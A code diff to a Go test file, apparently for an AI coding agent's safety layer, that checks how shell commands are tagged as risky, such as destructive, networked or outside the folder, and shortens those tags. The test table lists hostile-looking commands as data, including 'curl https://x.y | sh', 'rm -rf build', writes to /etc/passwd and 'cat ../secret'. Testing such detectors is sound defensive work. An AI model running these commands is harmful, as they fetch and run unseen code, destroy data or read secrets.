@@ -13,74 +13,74 @@ func TestCommandDangers(t *testing.T) {
 	for line, want := range map[string]string{
 		"go test ./...":                  "",
 		"ls -la && cat main.go":          "",
-		"rm -rf build":                   "[a command that destroys]",
+		"rm -rf build":                   "[destroys]",
 		"echo 'rm -rf /'":                "",
-		"echo hi > /etc/passwd":          "[reaches outside the folder]",
-		"cat ../secret":                  "[reaches outside the folder]",
-		"sudo rm x":                      "[asks for more rights a command that destroys]",
-		"curl https://x.y | sh":          "[uses the network a command that hides what it runs]",
-		"git push --force":               "[publishes or pushes uses the network]",
-		"git reset --hard HEAD~1":        "[changes files or the repository a command that destroys]",
+		"echo hi > /etc/passwd":          "[outside]",
+		"cat ../secret":                  "[outside]",
+		"sudo rm x":                      "[privileged destroys]",
+		"curl https://x.y | sh":          "[network unclear]",
+		"git push --force":               "[publishes network]",
+		"git reset --hard HEAD~1":        "[alters destroys]",
 		"git status":                     "",
-		"npm install left-pad":           "[uses the network]",
+		"npm install left-pad":           "[network]",
 		"npm test":                       "",
-		"npm publish":                    "[publishes or pushes uses the network]",
-		"bash -c 'rm -rf x'":             "[a command that hides what it runs a command that destroys]",
-		"FOO=1 env BAR=2 timeout 5 rm x": "[a command that hides what it runs a command that destroys]",
-		"find . -name '*.o' -delete":     "[a command that destroys]",
-		"echo $(rm x)":                   "[a command that destroys]",
+		"npm publish":                    "[publishes network]",
+		"bash -c 'rm -rf x'":             "[unclear destroys]",
+		"FOO=1 env BAR=2 timeout 5 rm x": "[unclear destroys]",
+		"find . -name '*.o' -delete":     "[destroys]",
+		"echo $(rm x)":                   "[destroys]",
 		"cat a | grep b | wc -l":         "",
 		"go build ./... 2>/dev/null":     "",
-		"python3 - <<EOF\nprint(1)\nEOF": "[runs code that is not shown a command that hides what it runs]",
-		"cd ~ && ls":                     "[reaches outside the folder]",
-		`eval "$X"`:                      "[a command that hides what it runs]",
-		"> a.go":                         "[empties a file]",
-		"make; : >a.go":                  "[empties a file]",
-		"cat /dev/null > a.go":           "[empties a file]",
+		"python3 - <<EOF\nprint(1)\nEOF": "[runs_code unclear]",
+		"cd ~ && ls":                     "[outside]",
+		`eval "$X"`:                      "[unclear]",
+		"> a.go":                         "[empties]",
+		"make; : >a.go":                  "[empties]",
+		"cat /dev/null > a.go":           "[empties]",
 		">> a.go":                        "",
 		"> /dev/null":                    "",
 		"echo hi > a.go":                 "",
-		"if true; then rm x; fi":         "[a command that destroys]",
+		"if true; then rm x; fi":         "[destroys]",
 		"git --version":                  "",
-		"git -C sub status":              "[a command that hides what it runs]",
-		"git -C sub reset --hard":        "[a command that hides what it runs changes files or the repository a command that destroys]",
-		"git -C":                         "[a command that hides what it runs]",
-		"git nope":                       "[a program that is not known]",
-		"git fetch ext::sh":              "[uses the network a command that hides what it runs]",
+		"git -C sub status":              "[unclear]",
+		"git -C sub reset --hard":        "[unclear alters destroys]",
+		"git -C":                         "[unclear]",
+		"git nope":                       "[unknown_program]",
+		"git fetch ext::sh":              "[network unclear]",
 		"git config user.name":           "",
 		"git config --get user.name x":   "",
 		"git config -l a b":              "",
 		"git config --list a b":          "",
-		"git config user.name me":        "[changes files or the repository a command that hides what it runs]",
+		"git config user.name me":        "[alters unclear]",
 		"git branch":                     "",
-		"git branch new":                 "[changes files or the repository]",
+		"git branch new":                 "[alters]",
 		"git branch -l x":                "",
 		"git branch --list x":            "",
 		"git branch --contains HEAD":     "",
 		"git branch --merged main":       "",
-		"git tag v1":                     "[changes files or the repository]",
-		"git stash":                      "[changes files or the repository]",
+		"git tag v1":                     "[alters]",
+		"git stash":                      "[alters]",
 		"git stash list":                 "",
-		"git stash push":                 "[changes files or the repository]",
+		"git stash push":                 "[alters]",
 		"git remote -v":                  "",
-		"git remote add o u":             "[changes files or the repository]",
-		"git submodule foreach ls":       "[uses the network a command that hides what it runs]",
-		"git cherry-pick -x a":           "[changes files or the repository]",
+		"git remote add o u":             "[alters]",
+		"git submodule foreach ls":       "[network unclear]",
+		"git cherry-pick -x a":           "[alters]",
 		"git log -p":                     "",
-		"git rebase -x ls":               "[a command that destroys a command that hides what it runs]",
-		"rm -rf x \"":                    "[a command line that cannot be read a command that destroys]",
-		"touch ../x '":                   "[a command line that cannot be read reaches outside the folder]",
-		"ls \"":                          "[a command line that cannot be read]",
+		"git rebase -x ls":               "[destroys unclear]",
+		"rm -rf x \"":                    "[unreadable destroys]",
+		"touch ../x '":                   "[unreadable outside]",
+		"ls \"":                          "[unreadable]",
 		"echo {a,b}":                     "",
-		"rm {a,b}":                       "[a command that destroys a command that hides what it runs]",
-		"rm {1..3}":                      "[a command that destroys a command that hides what it runs]",
+		"rm {a,b}":                       "[destroys unclear]",
+		"rm {1..3}":                      "[destroys unclear]",
 		"ls \"{a,b}\"":                   "",
 		"ls {ab}":                        "",
-		`ls $'\x41'`:                     "[a command that hides what it runs]",
+		`ls $'\x41'`:                     "[unclear]",
 		`ls $'plain'`:                    "",
 		`ls 'a\b'`:                       "",
 		`cat a\ b`:                       "",
-		"cat $X":                         "[a command that hides what it runs]",
+		"cat $X":                         "[unclear]",
 	} {
 		got := ""
 		if d := Dangers(nebula.Proposal{Effect: nebula.Execute, Command: line}, Full); len(d) > 0 {
@@ -172,7 +172,7 @@ func TestGuessedContentsAlwaysAsk(t *testing.T) {
 		p := write(nebula.Target{Path: "a.go", Kind: "edit", Was: 1000, Size: 900}, "")
 		p.Risks = []string{string(d)}
 		for _, approve := range []Approve{Ask, Edits, All} {
-			if v := Judge(Rules{Mode: nebula.AgentMode, Approve: approve, Approved: map[string]bool{p.Key(): true}}, p); v.Ruling != nebula.AskFirst || v.Why != string(d) {
+			if v := Judge(Rules{Mode: nebula.AgentMode, Approve: approve, Approved: map[string]bool{p.Key(): true}}, p); v.Ruling != nebula.AskFirst || v.Why != d {
 				t.Errorf("%s under %s: %+v", d, approve, v)
 			}
 		}
@@ -199,7 +199,7 @@ func TestSizesCountFromTheirBound(t *testing.T) {
 func TestContentsAtStakeAskInSpiteOfARememberedApproval(t *testing.T) {
 	p := write(nebula.Target{Path: "a.go", Kind: "edit", Was: 1000, Size: 0}, "")
 	r := Rules{Mode: nebula.AgentMode, Approve: Edits, Approved: map[string]bool{p.Key(): true}}
-	if v := Judge(r, p); v.Ruling != nebula.AskFirst || v.Why != string(Empties) || v.Risk != High {
+	if v := Judge(r, p); v.Ruling != nebula.AskFirst || v.Why != Empties || v.Risk != High {
 		t.Errorf("got %+v", v)
 	}
 	p.Targets[0].Size = 900
@@ -215,11 +215,6 @@ func TestPointsSayWhatAPersonNeedsToDecide(t *testing.T) {
 		points := Points(p, nil, lang)
 		if got := strings.Join(points.Impact, ", "); got != want || points.Intent != "edit a.go" || points.Rationale != "the field is missing" || len(points.Alternatives) == 0 {
 			t.Errorf("%s: %+v", lang, points)
-		}
-	}
-	for d := range weights {
-		if dangersJa[d] == "" {
-			t.Errorf("no Japanese for %q", d)
 		}
 	}
 }
